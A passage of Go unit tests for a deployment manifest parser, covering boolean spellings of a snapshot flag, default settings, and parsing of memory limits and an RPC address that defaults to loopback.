	for _, spelling := range []string{"true", "True", "TRUE"} {
		src := strings.Replace(readFixture(t), "  stop_timeout: 5m", "  stop_timeout: 5m\n  snapshot: "+spelling, 1)
		m, err := Parse(fixture, []byte(src))
		if err != nil || !m.Runtime.Snapshot {
			t.Errorf("snapshot: %s read as %v (%v)", spelling, m.Runtime.Snapshot, err)
		}
	}
}

func TestDefaults(t *testing.T) {
	src := strings.Replace(strings.Replace(readFixture(t), "  max_unavailable: 1\n", "", 1), "  health_timeout: 30m\n", "", 1)
	m, err := Parse(fixture, []byte(src))
	if err != nil {
		t.Fatal(err)
	}
	if ps := Validate(m); len(ps) > 0 {
		t.Fatal(ps)
	}
	if m.Deploy.MaxUnavailable != 1 || m.Deploy.HealthTimeout.String() != "15m" || m.Runtime.StopSignal != "SIGTERM" || m.Runtime.StallAfter.String() != "1h" {
		t.Errorf("defaults: max_unavailable=%d health_timeout=%s stop_signal=%s stall_after=%s", m.Deploy.MaxUnavailable, m.Deploy.HealthTimeout, m.Runtime.StopSignal, m.Runtime.StallAfter)
	}
}

// runtime.memory and deploy.rpc_address as an operator writes them, and
// deploy.rpc_address's default: the host's loopback.
func TestMemoryAndRPCAddress(t *testing.T) {
	tests := []struct {
		name, add       string
		memory, rpcAddr string
	}{
		{"defaults", "", "", "127.0.0.1"},
		{"memory in GiB", "  memory: 8g\n", "8g", "127.0.0.1"},
		{"docker's minimum", "  memory: 6m\n", "6m", "127.0.0.1"},
		{"private rpc address", "  rpc_address: 10.0.1.5\n", "", "10.0.1.5"},
		{"other loopback", "  rpc_address: 127.0.0.2\n", "", "127.0.0.2"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			src := readFixture(t)
			if strings.HasPrefix(tt.add, "  memory") {
				src = strings.Replace(src, "  stop_timeout: 5m\n", "  stop_timeout: 5m\n"+tt.add, 1)
			} else {
				src = strings.Replace(src, "  health_timeout: 30m\n", "  health_timeout: 30m\n"+tt.add, 1)
			}
			m, err := Parse(fixture, []byte(src))
			if err != nil {
				t.Fatal(err)
			}
			if ps := Validate(m); len(ps) != 0 {
				t.Fatalf("problems: %v", ps)
			}
			if m.Runtime.Memory != tt.memory || m.Deploy.RPCAddress != tt.rpcAddr {
				t.Errorf("memory %q, rpc_address %q; want %q, %q", m.Runtime.Memory, m.Deploy.RPCAddress, tt.memory, tt.rpcAddr)
			}
		})
	}
}
